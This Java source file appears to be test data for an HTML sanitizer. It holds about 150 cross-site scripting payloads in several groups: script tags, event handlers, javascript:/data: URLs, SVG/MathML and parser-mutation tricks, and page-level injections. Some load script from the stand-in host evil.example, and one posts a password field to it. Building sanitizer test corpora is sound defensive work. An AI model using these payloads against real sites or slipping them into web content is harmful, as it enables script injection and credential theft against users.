package io.heliograph.origin;

import java.util.stream.Stream;

/** HTML that tries to run something, to load something behind the reader's back, or to pass for what it is not. */
final class XssPayloads {

    private XssPayloads() {}

    static Stream<String> all() {
        return Stream.of(SCRIPTS, HANDLERS, URLS, FOREIGN, MUTATIONS, PAGES, MARKS)
                .flatMap(Stream::of);
    }

    private static final String[] SCRIPTS = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<script/x>alert(1)</script>",
        "<script>alert(1)",
        "<<script>alert(1);//<</script>",
        "<script><!--\nalert(1)//--></script>",
        "<script type=module>import 'https://evil.example/x.js'</script>",
        "</script><script>alert(1)</script>",
        "<p><script>document.write('<img src=x onerror=alert(1)>')</script></p>",
        "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(2)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<scr<![CDATA[]]>ipt>alert(1)</script>",
        "<<![CDATA[script>alert(1)</script>",
        "<script>\u0000alert(1)</script>",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<scr\u0001ipt>alert(1)</scr\u0001ipt>",
        "<noscript><script>alert(1)</script></noscript>"
    };

    private static final String[] HANDLERS = {
        "<img src=x onerror=alert(1)>",
        "<img src=x ONERROR=alert(1)>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src='x'onerror='alert(1)'>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=x:x onerror=\"&#97;lert(1)\">",
        "<img alt=`x` src=`x` onerror=alert(1)>",
        "<p onmouseover=alert(1)>over</p>",
        "<a href=https://evil.example onclick=alert(1)>x</a>",
        "<body onload=alert(1)>x",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video src=x onerror=alert(1)></video>",
        "<video><source onerror=alert(1) src=x></video>",
        "<audio src=x onloadstart=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<div \u0001onclick=alert(1)>x</div>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>"
    };

    private static final String[] URLS = {
        "<a href=javascript:alert(1)>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>",
        "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
        "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>x</a>",
        "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
        "<a href='javascript&#58;alert(1)'>x</a>",
        "<a href='javascript://news.example/%0aalert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "<a href='blob:https://evil.example/1'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='feed:javascript:alert(1)'>x</a>",
        "<a href='view-source:https://evil.example'>x</a>",
        "<img src='javascript:alert(1)'>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img data-src='javascript:alert(1)'>",
        "<img src='data:,' data-src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img srcset='javascript:alert(1) 1x, https://evil.example/x 2x' src=/ok.jpg>",
        "<video poster='javascript:alert(1)' src=/v.mp4></video>",
        "<track src='data:text/vtt,x'>",
        "<blockquote cite='javascript:alert(1)'>x</blockquote>",
        "<q cite='vbscript:x'>x</q><del cite='data:x'>y</del><ins cite='javascript:x'>z</ins>",
        "<a href=mailto:a@b.example href=javascript:alert(1)>x</a>",
        "<a href='https://other.example\\@evil.example/'>x</a>",
        "<a ping=https://evil.example/count href=/x target=_blank>x</a>"
    };

    private static final String[] FOREIGN = {
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<svg><style>*{background:url(https://evil.example/x)}</style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
        "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
        "<math href='javascript:alert(1)'><mi>x</mi></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
        "<math><mi><svg><script>alert(1)</script></svg></mi></math>"
    };

    private static final String[] MUTATIONS = {
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<template><p title=\"</template><img src=x onerror=alert(1)>\">",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
        "<plaintext><script>alert(1)</script>",
        "<listing>\n<img src=x onerror=alert(1)></listing>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<table><td><style><img src=x onerror=alert(1)></style></table>",
        "<table><script>alert(1)</script><tr><a href=javascript:alert(1)>x</a><td>y</table>",
        "<table><tr><table><td></table><img src=x onerror=alert(1)></table>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\"></style></h1>",
        "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)>\"></svg>",
        "<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title=\"&lt;/style>&lt;img src onerror=alert(1)>\">",
        "<svg><p><style><!--</style><a title=\"--><img src=x onerror=alert(1)>\">",
        "<a><table><a href=javascript:alert(1)><td>x</table>",
        "<p><button><p onclick=alert(1)></button>",
        "<b><p></b><i><img src=x onerror=alert(1)></p></i>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<!--> <img src=x onerror=alert(1)> -->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!doctype html><![if IE]><script>alert(1)</script><![endif]>",
        "<?xml version=\"1.0\"?><?x <script>alert(1)</script>?>",
        "<%<script>alert(1)</script>%>",
        "</p title=\"><img src=x onerror=alert(1)>\">",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<details><summary><svg><style></summary><img src=x onerror=alert(1)>"
    };

    private static final String[] PAGES = {
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=https://evil.example/><a href=x>x</a>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=import href=https://evil.example/x.html>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<p style='position:fixed;top:0;left:0;width:100%;height:100%' class=modal id=location>x</p>",
        "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<iframe src=https://evil.example/></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src=javascript:alert(1) title='<script>alert(1)</script>'></iframe>",
        "<iframe src='https://evil.example/' title='<img src=x onerror=alert(1)>'></iframe>",
        "<object data=javascript:alert(1)><param name=x value=y></object>",
        "<embed src=javascript:alert(1)>",
        "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
        "<applet code=x></applet><isindex prompt=x action=javascript:alert(1)>",
        "<dialog open>Log in</dialog><portal src=https://evil.example/></portal>",
        "<a id=document name=cookie href=/x>clobber</a>",
        "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<custom-element onclick=alert(1) is=x>x</custom-element>"
    };

    private static final String[] MARKS = {
        "<a href='&#1;/media/own'>x</a>",
        "<a href='&#x1;/media/own'>x</a>",
        "<a href='\u0001/media/own'>x</a>",
        "<a href='\ufdd0/media/own'>x</a>",
        "<a href='&#xFDD0;/media/own'>x</a>",
        "<img src='&#1;/media/own.jpg'>",
        "<img src='\ufdd0/media/own.jpg'>",
        "<p title='&#1;/x \ufdd0/x'>&#1;/x \u0001/x \ufdd0/x &#xfdd0;/x</p>",
        "<video poster='\u0001/x' src='\u0001/y'></video>",
        "<blockquote cite='\ufdd0//evil.example/x'>\u0001//evil.example</blockquote>",
        "<a href='https://evil.example/\u0001/x'>x</a>",
        "<a href='mailto:\u0001/x@y.example'>x</a><a href='tel:\ufdd01'>y</a>",
        "<iframe src='https://evil.example/' title='\u0001/x \ufdd0'></iframe>",
        "<p lang='\u0001' dir='\ufdd0'><time datetime='\u0001/x'>x</time></p>",
        "<td headers='\u0001/x'>x</td><table><td headers='\u0001/x'>x</table>"
    };
}
